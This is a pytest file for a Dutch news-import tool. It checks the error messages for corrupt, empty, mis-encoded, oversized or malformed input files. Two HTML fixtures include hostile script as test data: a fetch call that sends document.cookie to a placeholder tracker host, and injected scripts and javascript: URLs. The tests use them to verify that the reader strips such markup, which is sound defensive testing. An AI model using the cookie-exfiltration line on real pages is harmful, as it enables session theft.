"""Bad input: each file gets an error of the errors.py tree whose Dutch message names the file
(and page or line), the problem and what to do."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from tests.sources import pdfs
from trendbeeld import sources
from trendbeeld.errors import BadTable, TrendbeeldError, UnreadableFile
from trendbeeld.model import Source, SourceMeta

HUNDRED_MB = 100 * 1024 * 1024

CORRUPT_HINT = "Open en bewaar het bestand opnieuw of vraag de bron om een nieuwe versie"


def _read(path: Path, encoding: str | None = None) -> list[Source]:
    return list(sources.read(str(path), meta=SourceMeta(), encoding=encoding))


def _error(path: Path) -> TrendbeeldError:
    with pytest.raises(TrendbeeldError) as caught:
        _read(path)
    assert caught.value.path == str(path)
    return caught.value


def test_truncated_pdf(tmp_path: Path) -> None:
    whole = pdfs.two_column_pdf(tmp_path / "heel.pdf", 3).read_bytes()
    path = tmp_path / "afgebroken.pdf"
    path.write_bytes(whole[: len(whole) // 2])
    error = _error(path)
    assert isinstance(error, UnreadableFile)
    assert str(error).startswith(f"{path}, pagina ")
    assert "de PDF is beschadigd en niet te lezen" in str(error)
    assert str(error).endswith(CORRUPT_HINT)


def test_pdf_with_garbage_after_its_header(tmp_path: Path) -> None:
    path = tmp_path / "rommel.pdf"
    path.write_bytes(b"%PDF-1.4\n" + bytes(range(256)) * 20)
    error = _error(path)
    assert isinstance(error, UnreadableFile)
    assert str(error) == (
        f"{path}, pagina 1: de PDF is beschadigd en niet te lezen (PDFSyntaxError). {CORRUPT_HINT}"
    )


def test_file_named_pdf_that_is_no_pdf(tmp_path: Path) -> None:
    path = tmp_path / "nep.pdf"
    path.write_text("Dit is gewone tekst met een verkeerde extensie.", encoding="utf-8")
    assert str(_error(path)) == (
        f"{path}: dit is geen PDF (de kop '%PDF-' ontbreekt). "
        "Controleer of het bestand volledig is gedownload"
    )


def test_encrypted_pdf(tmp_path: Path) -> None:
    path = pdfs.encrypted_pdf(tmp_path / "versleuteld.pdf", user_password="geheim")
    error = _error(path)
    assert isinstance(error, UnreadableFile)
    assert str(error) == (
        f"{path}: de PDF is versleuteld met een wachtwoord. "
        "Sla een onbeveiligde versie op (bijvoorbeeld via 'Afdrukken als PDF') en voeg die toe"
    )


@pytest.mark.parametrize("name", ["leeg.txt", "leeg.pdf", "leeg.csv", "leeg.html", "leeg.docx", "leeg.md"])
def test_empty_file(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.touch()
    error = _error(path)
    assert isinstance(error, UnreadableFile)
    assert str(error) == f"{path}: het bestand is leeg. Voeg een bestand met inhoud toe"


def test_file_of_only_blank_lines(tmp_path: Path) -> None:
    path = tmp_path / "witruimte.txt"
    path.write_text("\n   \n\t\n", encoding="utf-8")
    assert str(_error(path)) == (
        f"{path}: het bestand bevat geen leesbare tekst. "
        "Controleer het bestand; een gescande PDF heeft eerst tekstherkenning (OCR) nodig"
    )


@pytest.mark.parametrize(
    "content",
    [bytes(range(256)) * 16, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200), b"PK\x03\x04" + bytes(500)],
    ids=["bytes", "png", "zip"],
)
def test_binary_data_named_txt(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "notitie.txt"
    path.write_bytes(content)
    error = _error(path)
    assert isinstance(error, UnreadableFile)
    assert str(error) == (
        f"{path}: dit is geen tekstbestand (binaire gegevens). "
        "Controleer of de bestandsnaam en -extensie kloppen"
    )


CP1252_TEXT = (
    "Café-eigenaren in ’s-Hertogenbosch zien een stijging van 12% in overlast – “ernstig”, "
    "zegt de burgemeester. De reünie kost €1.200; coördinatie ligt bij de gemeente."
)


def test_cp1252_text_is_read_correctly(tmp_path: Path) -> None:
    path = tmp_path / "windows.txt"
    path.write_bytes(CP1252_TEXT.encode("cp1252"))
    [source] = _read(path)
    assert source.text == CP1252_TEXT


def test_cp1252_csv_is_read_correctly(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    row = f"{CP1252_TEXT[:60]};Omroep Brabant;12-02-2024;"
    path.write_bytes(f"title;outlet;date;url\n{row}\n".encode("cp1252"))
    [source] = _read(path)
    assert source.meta.title == CP1252_TEXT[:60]


def test_wrong_encoding_given_names_the_file_and_what_to_do(tmp_path: Path) -> None:
    path = tmp_path / "utf16.txt"
    path.write_bytes("Overlast neemt toe".encode("utf-16"))
    with pytest.raises(TrendbeeldError) as caught:
        _read(path, encoding="ascii")
    assert str(caught.value).startswith(f"{path}: de tekst is niet in codering ascii")
    assert str(caught.value).endswith(
        "Geef de juiste codering op met --encoding, bijvoorbeeld utf-8 of cp1252"
    )


def test_html_page_of_only_scripts(tmp_path: Path) -> None:
    path = tmp_path / "scripts.html"
    scripts = "<script>document.write('<p>Koop nu</p>'); fetch('https://tracker.example/'+document.cookie)</script>"
    path.write_text(f"<html><head>{scripts}</head><body>{scripts * 200}<noscript>x</noscript></body></html>")
    error = _error(path)
    assert isinstance(error, UnreadableFile)
    assert str(error) == (
        f"{path}: de HTML-pagina bevat geen leesbare hoofdtekst (alleen scripts, menu's of opmaak). "
        "Sla de pagina op nadat ze volledig geladen is, of kopieer de tekst naar een .txt-bestand"
    )


def test_hostile_html_never_leaks_scripts_styles_or_markup(tmp_path: Path) -> None:
    path = tmp_path / "vijandig.html"
    article = "<p>De gemeente meldt dat het aantal woninginbraken in 2023 met 14 procent is gedaald.</p>" * 4
    path.write_text(
        "<html><head><style>body{display:none}</style><script>steelWachtwoord()</script></head><body>"
        + "<script>var x = '<p>nep</p>';</script>" * 50
        + f"<article><h1>Minder inbraken</h1>{article}"
        + "<p onclick=\"alert('klik')\">Meer weten? Lees verder.</p>"
        + "<iframe src='javascript:alert(1)'></iframe><svg><script>alert(2)</script></svg></article>"
        + "</body></html>",
        encoding="utf-8",
    )
    [source] = _read(path)
    assert "met 14 procent is gedaald" in source.text
    for leaked in ("steelWachtwoord", "alert", "display:none", "<", "nep", "javascript"):
        assert leaked not in source.text


def test_csv_with_the_wrong_delimiter(tmp_path: Path) -> None:
    path = tmp_path / "nieuws.csv"
    path.write_text(
        "title;outlet;date;url\nInbraak in Utrecht,nos.nl,2024-01-02,https://nos.nl/1\n", encoding="utf-8"
    )
    error = _error(path)
    assert isinstance(error, BadTable)
    assert error.line == 2
    assert str(error) == (
        f"{path}, regel 2: deze regel heeft 1 kolom, de kopregel 4. "
        "Controleer het scheidingsteken (';') en de aanhalingstekens"
    )


def test_statistics_csv_is_not_news(tmp_path: Path) -> None:
    path = tmp_path / "cijfers.csv"
    path.write_text("indicator,region,period,value\nmisdrijven,NL,2023,805590\n", encoding="utf-8")
    assert str(_error(path)) == (
        f"{path}, regel 1: dit lijkt een statistiekbestand, geen nieuwsexport. "
        "Importeer cijfers met 'trendbeeld indicators import'"
    )


def test_bad_date_in_a_news_csv_names_line_and_column(tmp_path: Path) -> None:
    path = tmp_path / "nieuws.csv"
    path.write_text("title,date\nGoed bericht,2024-01-02\nFout bericht,gisteren\n", encoding="utf-8")
    assert str(_error(path)) == (
        f"{path}, regel 3, kolom date: 'gisteren' is geen datum. Gebruik JJJJ-MM-DD of een ISO-tijdstempel"
    )


def test_file_over_the_size_limit_is_refused_without_reading_it(tmp_path: Path) -> None:
    path = tmp_path / "groot.txt"
    with path.open("wb") as handle:
        handle.truncate(2 * HUNDRED_MB)  # sparse: takes no disk space
    error = _error(path)
    assert isinstance(error, UnreadableFile)
    assert str(error) == (
        f"{path}: het bestand is te groot (200 MB, grens 100 MB). "
        "Splits het bestand of verhoog de grens met TRENDBEELD_MAX_MB"
    )


def test_size_limit_is_configurable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "klein.txt"
    path.write_text("De overlast neemt toe. " * 100, encoding="utf-8")
    monkeypatch.setenv("TRENDBEELD_MAX_MB", "0.001")
    assert "het bestand is te groot" in str(_error(path))


def test_missing_file_and_unknown_type(tmp_path: Path) -> None:
    missing = tmp_path / "weg.pdf"
    assert str(_error(missing)) == f"{missing}: bestand niet gevonden. Controleer het pad"
    odd = tmp_path / "tabel.xyz"
    odd.write_text("x", encoding="utf-8")
    assert str(_error(odd)).startswith(f"{odd}: onbekend bestandstype '.xyz'. Ondersteund: ")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_text_with_a_byte_order_mark_is_text(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "kladblok.txt"
    path.write_bytes(CP1252_TEXT.encode(encoding))
    [source] = _read(path)
    assert source.text == CP1252_TEXT


def test_docx_that_is_no_word_document(tmp_path: Path) -> None:
    path = tmp_path / "notitie.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("iets.txt", "geen Word")
    error = _error(path)
    assert isinstance(error, UnreadableFile)
    assert str(error) == (
        f"{path}: het Word-bestand is beschadigd of geen DOCX. "
        "Open het in Word of LibreOffice en sla het opnieuw op als .docx"
    )
